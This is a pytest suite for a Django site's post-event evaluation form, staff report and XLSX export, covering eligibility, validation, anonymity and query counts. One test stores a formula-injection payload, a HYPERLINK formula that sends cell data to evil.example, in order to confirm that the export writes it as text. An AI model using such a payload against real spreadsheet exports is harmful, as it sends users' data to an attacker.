"""The post-event evaluation: who may answer and when, what the form refuses, and the report staff read and export.

Answers go through the HTTP client where the form is under test; the report's figures are set up with rows written
directly and compared with figures worked out by hand.
"""

import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.html import escape
from django.utils.translation import gettext
from openpyxl import load_workbook

from alliance_site.models import ProfileStatus
from events import attendance, evaluations
from events.models import Evaluation, Registration
from tests import markup
from tests.alliance_site.helpers import ENGLISH, text

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
REPORT_BUDGET = 10  # 6 today, whatever the number of answers

ANSWER = {
    "content": "4",
    "speakers": "5",
    "organisation": "3",
    "usefulness": "4",
    "knowledge_before": "2",
    "knowledge_after": "4",
    "will_apply": "在车间推行点检表。",
    "comments": "",
}


def url(name, *args):
    return reverse(name, args=args)


def said(message, **params):
    """A message as the site's default language (Chinese first) renders it into a page."""
    with translation.override(settings.LANGUAGE_CODE):
        translated = gettext(message)
    return escape(translated % params if params else translated)


def seat(event, user, status=Registration.Status.CONFIRMED, **fields):
    now = timezone.now()
    return Registration.objects.create(event=event, user=user, status=status, confirmed_at=now, **fields)


@pytest.fixture
def ended(make_event):
    """An event that ended two hours ago."""
    return make_event(starts_in=-timedelta(hours=5), length=timedelta(hours=3))


@pytest.fixture
def attendee(make_profile, ended, staff):
    user = make_profile(status=ProfileStatus.ACTIVE, real_name="周学员").user
    attendance.check_in(seat(ended, user), by=staff)
    return user


def evaluate(client, event, data):
    return client.post(url("events:evaluate", event.pk), data)


# Who may evaluate, and when ----------------------------------------------------------------------------------


def test_an_attendee_gets_the_form_once_the_event_has_ended(client_for, attendee, ended):
    response = client_for(attendee).get(url("events:evaluate", ended.pk))
    assert response.status_code == 200
    html = text(response)
    for name in Evaluation.RATINGS:
        assert html.count(f'type="radio" name="{name}"') == 5, name
    assert 'name="will_apply"' in html and 'name="comments"' in html


def test_an_attendee_answers_and_the_answer_is_kept(client_for, attendee, ended):
    client = client_for(attendee)
    before = timezone.now()

    response = evaluate(client, ended, ANSWER)

    assert response.status_code == 302 and response["Location"] == url("events:my_events")
    answer = Evaluation.objects.get()
    assert answer.registration == Registration.objects.get(event=ended, user=attendee)
    assert [getattr(answer, name) for name in Evaluation.RATINGS] == [4, 5, 3, 4, 2, 4]
    assert (answer.will_apply, answer.comments) == ("在车间推行点检表。", "")
    assert before <= answer.submitted_at <= timezone.now()
    assert said("Thank you: your evaluation is recorded.") in text(client.get(url("events:my_events")))


def test_the_evaluation_opens_only_when_the_event_has_ended(client_for, make_event, make_profile, staff):
    running = make_event(starts_in=-timedelta(hours=1), length=timedelta(hours=3))
    user = make_profile(status=ProfileStatus.ACTIVE).user
    attendance.check_in(seat(running, user), by=staff)
    client = client_for(user)

    for response in [client.get(url("events:evaluate", running.pk)), evaluate(client, running, ANSWER)]:
        assert response.status_code == 409
        assert said("The evaluation opens when the event has ended.") in text(response)
    assert not Evaluation.objects.exists()


@pytest.mark.parametrize("status", [Registration.Status.CONFIRMED, Registration.Status.WAITLISTED])
def test_a_registered_person_who_did_not_attend_may_not_evaluate(client_for, ended, member, status):
    seat(ended, member, status=status)
    client = client_for(member)
    for response in [client.get(url("events:evaluate", ended.pk)), evaluate(client, ended, ANSWER)]:
        assert response.status_code == 403
        assert said("Only attendees who were checked in can evaluate this event.") in text(response)
    assert not Evaluation.objects.exists()


def test_someone_without_a_registration_gets_404(client_for, ended, attendee, member, make_event):
    other = make_event(starts_in=-timedelta(hours=6))
    seat(other, member)  # a registration for another event does not count
    client = client_for(member)
    assert client.get(url("events:evaluate", ended.pk)).status_code == 404
    assert evaluate(client, ended, ANSWER).status_code == 404
    assert not Evaluation.objects.exists()


def test_a_visitor_is_sent_to_sign_in(client_for, ended, attendee):
    response = client_for(None).get(url("events:evaluate", ended.pk))
    assert response.status_code == 302 and response["Location"].startswith(reverse("account_login"))


def test_an_attendee_answers_only_once(client_for, attendee, ended):
    client = client_for(attendee)
    assert evaluate(client, ended, ANSWER).status_code == 302

    again = evaluate(client, ended, {**ANSWER, "content": "1", "comments": "改主意了"})

    assert again.status_code == 409
    assert said("You have already evaluated this event. Thank you.") in text(again)
    assert client.get(url("events:evaluate", ended.pk)).status_code == 409
    answer = Evaluation.objects.get()
    assert (answer.content, answer.comments) == (4, "")


def test_my_events_offers_the_evaluation_until_it_is_answered(client_for, attendee, ended):
    client = client_for(attendee)
    link = url("events:evaluate", ended.pk)
    assert link in text(client.get(url("events:my_events")))
    evaluate(client, ended, ANSWER)
    assert link not in text(client.get(url("events:my_events")))


# What the form refuses ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("content", None),
        ("knowledge_after", None),
        ("speakers", ""),
        ("organisation", "0"),
        ("usefulness", "6"),
        ("content", "abc"),
        ("knowledge_before", "3.5"),
        ("speakers", "-1"),
        ("content", "５"),  # a full-width digit
    ],
)
def test_a_rating_outside_1_to_5_is_refused(client_for, attendee, ended, field, value):
    data = {**ANSWER, field: value}
    if value is None:
        del data[field]
    response = evaluate(client_for(attendee), ended, data)
    assert response.status_code == 400
    html = text(response)
    assert said("Choose a rating from 1 to 5.") in html
    assert html.count(said("Choose a rating from 1 to 5.")) == 1  # on the one field at fault
    assert not Evaluation.objects.exists()


def test_no_rating_at_all_is_refused_on_every_rating(client_for, attendee, ended):
    response = evaluate(client_for(attendee), ended, {"will_apply": "", "comments": ""})
    assert response.status_code == 400
    assert text(response).count(said("Choose a rating from 1 to 5.")) == len(Evaluation.RATINGS)
    assert not Evaluation.objects.exists()


@pytest.mark.parametrize("field", ["will_apply", "comments"])
def test_text_over_2000_characters_is_refused(client_for, attendee, ended, field):
    client = client_for(attendee)
    response = evaluate(client, ended, {**ANSWER, field: "质" * 2001})
    assert response.status_code == 400
    assert 'class="errorlist' in text(response)
    assert not Evaluation.objects.exists()

    assert evaluate(client, ended, {**ANSWER, field: "质" * 2000}).status_code == 302
    assert len(getattr(Evaluation.objects.get(), field)) == 2000


# The report ------------------------------------------------------------------------------------------------

# content, speakers, organisation, usefulness, knowledge before, knowledge after, will apply, comments
ANSWERS = [
    (5, 4, 3, 5, 1, 3, "推行SPC控制图", "讲得很好"),
    (4, 5, 2, 4, 2, 2, "", "<b>时间太紧</b>"),
    (4, 5, 3, 2, 3, 4, "用FMEA梳理风险", "   "),
    (3, 3, 5, 4, 2, 1, "", ""),
]
# Worked out by hand from ANSWERS: (mean, [how many gave 1, 2, 3, 4, 5]).
EXPECTED = {
    "content": (Decimal("4"), [0, 0, 1, 2, 1]),
    "speakers": (Decimal("4.25"), [0, 0, 1, 1, 2]),
    "organisation": (Decimal("3.25"), [0, 1, 2, 0, 1]),
    "usefulness": (Decimal("3.75"), [0, 1, 0, 2, 1]),
    "knowledge_before": (Decimal("2"), [1, 2, 1, 0, 0]),
    "knowledge_after": (Decimal("2.5"), [1, 1, 1, 1, 0]),
}
RESPONDENTS = ["吴回答一", "郑回答二", "冯回答三", "陈回答四"]
SILENT = ["褚未答一", "卫未答二"]  # checked in, did not answer


def write_answers(event, users, answers, staff):
    start = event.ends_at + timedelta(hours=1)
    for n, (user, values) in enumerate(zip(users, answers, strict=True)):
        registration = seat(event, user)
        attendance.check_in(registration, by=staff, now=event.starts_at)
        ratings = dict(zip(Evaluation.RATINGS, values[:6], strict=True))
        Evaluation.objects.create(
            registration=registration,
            **ratings,
            will_apply=values[6],
            comments=values[7],
            submitted_at=start + timedelta(minutes=n),
        )


@pytest.fixture
def answered(ended, make_user, make_profile, staff, make_event):
    """Six attendees, four of whom answered; one registered no-show; and an answer to another event."""
    people = []
    for n, name in enumerate(RESPONDENTS + SILENT):
        user = make_user(f"respondent-{n}", first_name=name)
        make_profile(user, status=ProfileStatus.ACTIVE, real_name=name)
        people.append(user)
    write_answers(ended, people[:4], ANSWERS, staff)
    for user in people[4:]:
        attendance.check_in(seat(ended, user), by=staff, now=ended.starts_at)
    seat(ended, make_profile(status=ProfileStatus.ACTIVE, real_name="蒋缺席").user)
    other = make_event(starts_in=-timedelta(days=3))
    write_answers(other, [make_user("elsewhere")], [(1, 1, 1, 1, 5, 1, "别的活动", "别的活动")], staff)
    return ended


def report_rows(page):
    """{rating label: (mean, [count of 1 … 5])} from the report's ratings table."""
    rows = {}
    for row in markup.select(page, "table.ratings tbody tr"):
        mean, *counts = markup.texts(row, "td.num")
        rows[markup.text_of(row.th)] = (Decimal(mean), [int(count) for count in counts])
    return rows


def free_text(page, title_id):
    """The answers listed under the heading `title_id` of the report ("apply-title" or "comments-title")."""
    return markup.texts(page, f'section[aria-labelledby="{title_id}"] li')


def english_labels():
    with translation.override("en"):
        return {name: str(label) for name, label in evaluations.rating_labels().items()}


def test_the_report_figures(answered):
    report = evaluations.evaluation_report(answered)
    assert (report["attended"], report["responses"]) == (6, 4)
    assert report["response_rate"] == pytest.approx(66.7)
    assert {r["name"]: (Decimal(str(r["average"])), r["distribution"]) for r in report["ratings"]} == EXPECTED
    assert report["learning_gain"] == pytest.approx(0.5)  # gains 2, 0, 1, −1
    assert report["improved"] == 2
    assert report["will_apply"] == ["推行SPC控制图", "用FMEA梳理风险"]
    assert report["comments"] == ["讲得很好", "<b>时间太紧</b>"]
    assert report["ratings"][0]["shares"] == [0, 0, 25, 50, 25]
    # The bar is drawn in SVG (no style attribute): each share starts where the one before it ends.
    segments = report["ratings"][0]["segments"]
    assert [(s["x"], s["width"]) for s in segments] == [(0, 0), (0, 0), (0, 25), (25, 50), (75, 25)]


def test_the_report_page_shows_the_figures(client_for, staff, answered):
    response = client_for(staff).get(url("events:evaluation_report", answered.pk), headers=ENGLISH)
    assert response.status_code == 200
    labels = english_labels()
    assert report_rows(response) == {labels[name]: figures for name, figures in EXPECTED.items()}
    # Answers from attendees, the response rate, the knowledge gained.
    assert markup.texts(response, ".stat .value") == ["4 / 6", "66.7%", "+0.5"]
    assert "2 improved" in markup.texts(response, ".stat .label")[2]
    assert url("events:evaluation_export", answered.pk) in [link["href"] for link in markup.select(response, "a")]


def test_the_report_lists_the_free_text_escaped_and_without_blanks(client_for, staff, answered):
    response = client_for(staff).get(url("events:evaluation_report", answered.pk))
    html = text(response)
    assert free_text(response, "apply-title") == ["推行SPC控制图", "用FMEA梳理风险"]
    assert free_text(response, "comments-title") == ["讲得很好", "<b>时间太紧</b>"]  # shown as written, as text
    assert escape("<b>时间太紧</b>") in html and "<b>时间太紧</b>" not in html
    assert "别的活动" not in html  # another event's answer


def test_the_report_names_nobody(client_for, staff, answered):
    html = text(client_for(staff).get(url("events:evaluation_report", answered.pk)))
    for name in RESPONDENTS + SILENT + ["蒋缺席"]:
        assert name not in html
    assert "respondent-" not in html and "@example.cn" not in html


def test_a_report_without_answers(client_for, staff, ended, attendee):
    report = evaluations.evaluation_report(ended)
    assert (report["attended"], report["responses"], report["response_rate"]) == (1, 0, 0.0)
    assert report["learning_gain"] is None and report["improved"] == 0
    assert all(r["average"] is None and r["distribution"] == [0] * 5 for r in report["ratings"])
    response = client_for(staff).get(url("events:evaluation_report", ended.pk), headers=ENGLISH)
    assert response.status_code == 200
    assert "0 / 1" in text(response) and "None yet." in text(response)
    assert client_for(staff).get(url("events:evaluation_export", ended.pk)).status_code == 200


def test_the_export_holds_the_same_figures(client_for, staff, answered):
    response = client_for(staff).get(url("events:evaluation_export", answered.pk))
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == f'attachment; filename="event-{answered.pk}-evaluations.xlsx"'

    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["汇总", "评价明细"]

    summary = [row for row in workbook["汇总"].iter_rows(values_only=True) if any(cell is not None for cell in row)]
    assert summary[0] == ("评价项", "平均分", "1分", "2分", "3分", "4分", "5分")
    with translation.override(settings.LANGUAGE_CODE):
        labels = [str(label) for label in evaluations.rating_labels().values()]
    ratings = summary[1:7]
    assert [row[0] for row in ratings] == labels
    assert [(Decimal(str(row[1])), list(row[2:7])) for row in ratings] == list(EXPECTED.values())
    totals = {row[0]: row[1] for row in summary[7:]}
    assert totals["签到人数"] == 6
    assert totals["评价份数"] == 4
    assert totals["回收率（%）"] == pytest.approx(66.7)
    assert totals["学习收获（前后自评差，平均）"] == pytest.approx(0.5)

    details = list(workbook["评价明细"].iter_rows(values_only=True))
    assert details[0] == ("提交时间", "内容", "讲师", "组织", "实用性", "学前自评", "学后自评", "将应用", "其他意见")
    assert [list(row[1:7]) for row in details[1:]] == [list(answer[:6]) for answer in ANSWERS]
    assert [(row[7] or "", row[8] or "") for row in details[1:]] == [answer[6:] for answer in ANSWERS]
    first = timezone.localtime(answered.ends_at + timedelta(hours=1)).strftime("%Y-%m-%d %H:%M")
    assert details[1][0] == first


def test_the_export_names_nobody(client_for, staff, answered):
    workbook = load_workbook(io.BytesIO(client_for(staff).get(url("events:evaluation_export", answered.pk)).content))
    cells = " ".join(str(cell) for sheet in workbook for row in sheet.iter_rows(values_only=True) for cell in row)
    for name in RESPONDENTS + SILENT:
        assert name not in cells
    assert "respondent-" not in cells and "别的活动" not in cells


def test_free_text_that_looks_like_a_formula_is_exported_as_text(client_for, staff, ended, make_user):
    formula = '=HYPERLINK("http://evil.example/?q="&A2,"点击查看")'
    write_answers(ended, [make_user()], [(4, 4, 4, 4, 2, 3, "+1+1", formula)], staff)
    workbook = load_workbook(io.BytesIO(client_for(staff).get(url("events:evaluation_export", ended.pk)).content))
    row = list(workbook["评价明细"].iter_rows(min_row=2, max_row=2))[0]
    assert row[8].data_type == "s" and row[7].data_type == "s"


def test_the_report_page_needs_as_many_queries_for_50_answers_as_for_5(
    client_for, staff, ended, make_user, django_assert_max_num_queries
):
    def answers(count):
        users = [make_user() for _ in range(count)]
        values = [((n % 5) + 1, 4, 3, 5, 2, 4, f"应用{n}", f"意见{n}") for n in range(count)]
        write_answers(ended, users, values, staff)

    answers(5)
    client = client_for(staff)
    address = url("events:evaluation_report", ended.pk)
    client.get(address)
    with CaptureQueriesContext(connection) as five:
        assert client.get(address).status_code == 200
    assert len(five.captured_queries) <= REPORT_BUDGET, [q["sql"] for q in five.captured_queries]

    answers(45)
    with django_assert_max_num_queries(len(five.captured_queries)):
        response = client.get(address)
    assert markup.texts(response, ".stat .value")[0] == "50 / 50"
    assert sorted(free_text(response, "comments-title")) == sorted(f"意见{n}" for n in [*range(5), *range(45)])


def test_the_export_speaks_the_readers_language(client_for, staff, answered):
    """Sheet names and headers are translated like the rest of the site (they were written in Chinese only)."""
    response = client_for(staff).get(url("events:evaluation_export", answered.pk), headers={"accept-language": "en"})
    workbook = load_workbook(io.BytesIO(response.content))

    assert workbook.sheetnames == ["Summary", "Evaluation answers"]
    assert next(workbook["Summary"].iter_rows(values_only=True)) == (
        "Rating",
        "Average",
        "1 point",
        "2 points",
        "3 points",
        "4 points",
        "5 points",
    )
    assert next(workbook["Evaluation answers"].iter_rows(values_only=True))[0] == "Submitted at"
